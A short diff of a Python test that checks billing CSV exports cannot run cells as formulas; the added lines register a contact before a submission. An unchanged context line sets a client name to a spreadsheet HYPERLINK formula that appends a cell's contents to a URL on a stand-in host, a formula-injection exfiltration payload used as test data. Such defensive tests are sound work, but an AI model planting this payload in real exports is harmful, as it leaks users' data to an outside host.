@@ -240,6 +240,8 @@ def test_billing_csv_cells_cannot_run_as_formulas(office: str) -> None:
     formula = '=HYPERLINK("http://x.example/?"&A1,"ver")'
     edited = run("--db", office, "client", "edit", NIT, "--name", formula, "--service", "contractual", login="jefe")
     assert edited.returncode == 0, edited.stderr
+    usr = ["contact", "add", "--nit", NIT, "--name", "Ana", "--role", "usr", "--email", "ana@cliente.com.co"]
+    assert run("--db", office, *usr, login="jefe").returncode == 0  # a verified reporter: time may be logged
     submission = {
         "submission_id": "CSV-1",
         "nit": NIT,
